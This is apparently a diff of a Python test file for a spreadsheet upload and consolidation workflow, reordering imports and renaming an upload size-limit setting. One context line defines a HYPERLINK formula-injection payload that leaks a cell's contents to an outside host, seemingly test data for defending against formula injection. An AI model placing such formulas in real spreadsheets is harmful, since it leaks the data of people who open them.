@@ -12,11 +12,11 @@ import pytest
 from documents.xlsx import cell_write, is_formula_like
 from tests.journey import issued_obligation
 from tests.workflows.figures.test_figures_pages import drafting  # noqa: F401  (fixture)
-from workflows.reports import dashboard
-from workflows.reports.consolidated import consolidated_rows
 from workflows.figures.consolidation import consolidate
 from workflows.figures.entry import consolidated_xlsx, template_xlsx
 from workflows.models import IndicatorValue, UnitReport
+from workflows.reports import dashboard
+from workflows.reports.consolidated import consolidated_rows
 
 D = datetime.date
 LEAK = '=HYPERLINK("http://x?leak="&A1)'
@@ -145,7 +145,7 @@ def test_the_limit_is_one_setting(drafting, client, users, settings):  # noqa: F
 
 def test_an_upload_above_the_size_limit_is_refused(drafting, client, users, settings):  # noqa: F811
     report, table = drafting
-    settings.KEHOACH_UPLOAD_MAX_BYTES = 1024
+    settings.KEHOACH_XLSX_UPLOAD_MAX_BYTES = 1024
     client.force_login(users["cv.stp"])
     response = _upload(client, report, template_xlsx(table=table) + b"\0" * 2048)
     assert response.status_code == 400 and "Tệp quá lớn: tối đa 1 KB" in response.content.decode()
